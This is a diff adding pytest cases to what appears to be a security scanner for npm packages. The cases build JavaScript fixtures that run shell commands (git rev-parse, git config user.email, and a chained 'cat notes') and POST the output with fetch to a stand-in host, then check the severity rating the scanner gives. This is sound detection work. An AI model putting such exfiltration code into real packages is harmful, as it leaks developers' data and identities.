@@ -127,3 +127,18 @@ def test_settings_that_say_where_to_ask_are_not_sent(url: str, sent: bool) -> No
     source = f'const exec = require("child_process").execSync;\nrequire("https").get({url});\n'
     found = npm_worst(RULE, npm_package({"index.js": source}))
     assert (found == "high") is sent
+
+
+REVISIONS = [
+    ("git rev-parse --short HEAD", "exports.report = send;", "none"),
+    ("git rev-parse --short HEAD", "send();", "high"),
+    ("git rev-parse HEAD; cat notes", "exports.report = send;", "medium"),
+    ("git config user.email", "exports.report = send;", "medium"),
+]
+
+
+@pytest.mark.parametrize(("command", "use", "severity"), REVISIONS)
+def test_a_revision_is_sent_by_whoever_is_asked_to_report(command: str, use: str, severity: str) -> None:
+    said = f"require('child_process').execSync('{command}').toString()"
+    source = f"function send() {{ fetch('https://example.invalid/', {{method: 'POST', body: {said}}}); }}\n{use}\n"
+    assert npm_worst(RULE, npm_package({"index.js": source})) == severity
